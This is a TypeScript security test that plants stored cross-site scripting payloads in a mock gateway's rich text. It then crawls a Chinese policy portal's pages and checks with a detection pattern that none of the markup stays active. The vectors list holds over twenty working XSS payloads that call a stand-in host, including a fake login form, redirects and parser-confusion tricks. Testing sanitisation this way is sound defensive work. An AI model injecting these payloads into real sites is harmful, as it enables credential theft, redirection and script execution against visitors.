import { defend, type Attack } from './attack.ts'
import { ask } from './wire.ts'

/** The attacker's stored payloads; each names this host, so that traces in a page can be found. */
const evil = 'evil.example'

const vectors = [
  `<script src="//${evil}/x.js"></script>`,
  `<script>fetch('//${evil}')</script>`,
  `<img src=x onerror="fetch('//${evil}')">`,
  `<svg onload="fetch('//${evil}')"><animate onbegin="fetch('//${evil}')"></svg>`,
  `<meta http-equiv="refresh" content="0;url=https://${evil}">`,
  `<base href="https://${evil}/">`,
  `<form action="https://${evil}"><input name="password"><button>登录</button></form>`,
  `<button formaction="https://${evil}">登录</button>`,
  `<iframe src="https://${evil}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;fetch('//${evil}')&lt;/script&gt;"></iframe>`,
  `<object data="https://${evil}"></object><embed src="https://${evil}">`,
  `<link rel="stylesheet" href="https://${evil}/x.css">`,
  `<style>@import url(https://${evil}/x.css); body { display: none }</style>`,
  `<p style="background: url(https://${evil}/x.png)">x</p>`,
  `<a href="javascript:fetch('//${evil}')">查看</a>`,
  `<a href="java&#9;script:fetch('//${evil}')">查看</a>`,
  `<a href="data:text/html,<script>fetch('//${evil}')</script>">查看</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('//${evil}')&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=fetch('//${evil}')>">`,
  `</p></div></article></main><script src="//${evil}/x.js"></script>`,
  `<textarea><img src=x onerror="fetch('//${evil}')"></textarea>`,
  `<video src="https://${evil}" onerror="fetch('//${evil}')" autoplay></video>`,
]

/** Markup that would act or navigate by itself; the page's own scripts name no foreign host. */
const active = new RegExp(
  [
    `<(script|iframe|object|embed|link|base|form|button|meta|style|video|svg|math)\\b[^>]*${evil}`,
    `<[a-z][^>]*\\s(on[a-z]+|style|srcdoc|formaction)\\s*=\\s*["']?[^>"']*${evil}`,
    `href\\s*=\\s*["']?\\s*(java|data:)`,
    '<meta http-equiv="?refresh',
  ].join('|'),
  'i',
)

interface Snapshot {
  [table: string]: unknown
}

/** Rich text and addresses from a gateway that cleans nothing. */
export const storedAttacks: Attack[] = [
  {
    name: 'stored markup',
    tries: 'a script, a form or a redirect in a text that somebody published, on a page that everybody reads',
    long: true,
    async attempt({ portal, gateway }) {
      if (gateway === undefined) return 'no mock gateway of ours'
      const control = `${gateway.origin}/__mock`
      const before = (await (await fetch(`${control}/snapshot`)).json()) as Snapshot
      const texts = new Set<string>()
      const poisoned = JSON.stringify(before, (_key, value: unknown) => {
        if (typeof value !== 'string' || !/<(p|h\d|ul|table|div)\b/.test(value)) return value
        texts.add(value)
        return value + vectors.join('')
      })
      const headers = { 'content-type': 'application/json' }
      const restored = await fetch(`${control}/restore`, { method: 'POST', headers, body: `{"snapshot":${poisoned}}` })
      defend(restored.ok, `the gateway could not be given the texts: ${(await restored.text()).slice(0, 200)}`)
      try {
        const seen = await readDetails(portal)
        const reached = seen.filter(({ body }) => body.includes(evil)).length
        for (const { path, body } of seen) {
          const [found] = active.exec(withoutOwnScripts(body)) ?? []
          defend(found === undefined, `${path} has ${found}`)
        }
        return `${vectors.length} vectors in ${texts.size} texts, ${seen.length} pages read, ${reached} name the host, none acts`
      } finally {
        await fetch(`${control}/reset`, { method: 'POST' })
      }
    },
  },
]

/** Lists, and the details that they link to; a unique query bypasses the cache. */
async function readDetails(portal: URL): Promise<{ path: string; body: string }[]> {
  const lists = [
    '/',
    '/policy',
    '/policy/info',
    '/policy/topic',
    '/policy/policy-topic',
    '/policy/policy-subject',
    '/qw/activity',
    '/qw/attract',
    '/qw/investment',
    '/qw/news',
    '/qw/help',
    '/qw/supply-demand/demand',
    '/qw/supply-demand/resource',
    '/qw/supply-demand/provider',
  ]
  const found = new Set<string>()
  const pages = []
  for (const list of lists) {
    const { body } = await ask(portal, fresh(list))
    pages.push({ path: list, body })
    const links = [...body.matchAll(/href="(\/[^"#]*)"/g)].map(([, link = '']) => link.replaceAll('&amp;', '&'))
    for (const link of links
      .filter((one) => /detail|\/info\/|\/topic\/|-topic\/|-subject\/|\/help\//.test(one))
      .slice(0, 6))
      found.add(link)
  }
  for (const path of found) pages.push({ path, body: (await ask(portal, fresh(path))).body })
  return pages
}

function fresh(path: string): string {
  return `${path}${path.includes('?') ? '&' : '?'}fresh=${crypto.randomUUID()}`
}

/** The page's initial data are in its own inline scripts, as text with every `<` escaped. */
function withoutOwnScripts(html: string): string {
  return html.replaceAll(/<script(?![^>]*\bsrc)[^>]*>[^<]*<\/script>/g, '')
}
